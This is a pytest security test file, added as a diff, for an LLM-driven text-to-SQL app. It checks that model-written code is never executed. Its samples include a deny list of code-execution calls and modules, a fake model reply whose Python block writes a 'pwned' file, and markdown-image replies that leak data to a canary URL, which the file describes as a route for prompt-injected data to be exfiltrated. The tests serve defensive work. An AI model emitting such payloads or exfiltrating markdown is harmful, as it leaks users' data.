@@ -1,0 +1,116 @@
+"""Nothing the model writes is executed, except SQL that passed the guard.
+
+Peers were broken exactly here: Vanna ran model-written Plotly code (CVE-2024-5565),
+PandasAI ran model-written pandas code (CVE-2024-12366), LangChain's SQL chain ran whatever
+statement the model wrote (CVE-2023-36189). Tabletalk's charts are a declarative spec chosen
+from the result's shape, and the only text that reaches an interpreter is guarded SQL.
+"""
+
+from __future__ import annotations
+
+import ast
+import re
+from pathlib import Path
+
+import pytest
+
+from core.ask import ask
+from core.charts import KINDS
+from tests.security.world import World, messages_text, result_text, snapshot_changes
+
+REPO = Path(__file__).resolve().parents[2]
+SOURCES = [REPO / "app.py"] + sorted(
+    path for folder in ("core", "ui", "views") for path in (REPO / folder).rglob("*.py")
+)
+
+FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "execfile", "breakpoint"}
+FORBIDDEN_MODULES = {
+    "pickle", "marshal", "shelve", "dill", "cloudpickle", "subprocess", "runpy", "code",
+    "codeop", "importlib", "ctypes", "pty",
+}  # fmt: skip
+FORBIDDEN_ATTRIBUTES = {
+    ("os", "system"), ("os", "popen"), ("os", "execv"), ("os", "execvp"), ("os", "spawnv"),
+    ("pio", "from_json"), ("plotly.io", "from_json"), ("yaml", "load"), ("yaml", "unsafe_load"),
+}  # fmt: skip
+
+
+def _violations(path: Path) -> list[str]:
+    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
+    found = []
+    for node in ast.walk(tree):
+        where = f"{path.name}:{getattr(node, 'lineno', 0)}"
+        called = node.func if isinstance(node, ast.Call) else None
+        if isinstance(called, ast.Name) and called.id in FORBIDDEN_CALLS:
+            found.append(f"{where} calls {called.id}()")
+        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
+            owner = ast.unparse(node.func.value)
+            if (owner, node.func.attr) in FORBIDDEN_ATTRIBUTES:
+                found.append(f"{where} calls {owner}.{node.func.attr}()")
+        if isinstance(node, ast.Import | ast.ImportFrom):
+            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
+            names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
+            for name in names:
+                if name.split(".")[0] in FORBIDDEN_MODULES:
+                    found.append(f"{where} imports {name}")
+    return found
+
+
+def test_the_scan_sees_every_kind_of_code_execution(tmp_path: Path):
+    assert REPO / "core" / "ask.py" in SOURCES and REPO / "ui" / "answer.py" in SOURCES
+    sample = tmp_path / "sample.py"
+    sample.write_text(
+        "import pickle\nfrom subprocess import run\neval(x)\nos.system('x')\n", encoding="utf-8"
+    )
+    assert len(_violations(sample)) == 4
+
+
+@pytest.mark.parametrize("path", SOURCES, ids=lambda p: str(p.relative_to(REPO)))
+def test_app_code_never_executes_or_unpickles_anything(path: Path):
+    assert _violations(path) == []
+
+
+CODE_REPLY = """Here is the revenue by region, and a chart.
+```python
+import pathlib; pathlib.Path({marker!r}).write_text("pwned")
+fig = px.bar(df, x="region", y="revenue")
+```
+```sql
+SELECT region, sum(revenue) AS revenue FROM sales GROUP BY region
+```
+"""
+
+
+def test_code_in_the_models_reply_is_never_run_and_the_chart_is_a_spec(world: World):
+    marker = world.root / "out" / "pwned.txt"
+    world.model.fake.script(CODE_REPLY.format(marker=str(marker)), "North leads on revenue.")
+    files = world.files()
+    result = ask(world.session, world.settings, world.alice, world.chat_id, "revenue by region")
+    assert result.success and result.result_count == 4
+    assert not marker.exists() and snapshot_changes(files, world.files()) == []
+    assert set(result.chart) == {"kind", "x", "y", "title"}
+    assert result.chart["kind"] in KINDS
+    assert result.chart["x"] in (None, *result.columns) and result.chart["y"] in result.columns
+    assert "pathlib" not in result_text(result).replace(result.sql_query or "", "")
+
+
+# Text the model writes is drawn as Markdown: an image in it is fetched by the browser of
+# whoever opens the answer, with whatever the model (or a cell that steered it) put in the URL.
+EXFILTRATING_ANSWERS = [
+    "North leads. ![chart]({url}/leak?d=North-7225)",
+    "North leads. ![chart][1]\n\n[1]: {url}/leak?d=North-7225",
+]
+
+
+@pytest.mark.hole
+@pytest.mark.parametrize("reply", EXFILTRATING_ANSWERS, ids=["inline-image", "reference-image"])
+def test_the_models_sentence_carries_no_url_for_the_browser_to_fetch(world: World, reply):
+    world.model.fake.script(
+        "```sql\nSELECT region, sum(revenue) AS revenue FROM sales GROUP BY region\n```",
+        reply.format(url=world.canary.url),
+    )
+    before = len(world.messages())
+    result = ask(world.session, world.settings, world.alice, world.chat_id, "revenue by region")
+    shown = result_text(result) + messages_text(world.messages()[before:])
+    assert result.success
+    assert world.canary.url not in shown, f"the answer carries a URL: {result.answer!r}"
+    assert not re.search(r"!\[[^\]]*\]", shown), f"the answer draws an image: {result.answer!r}"
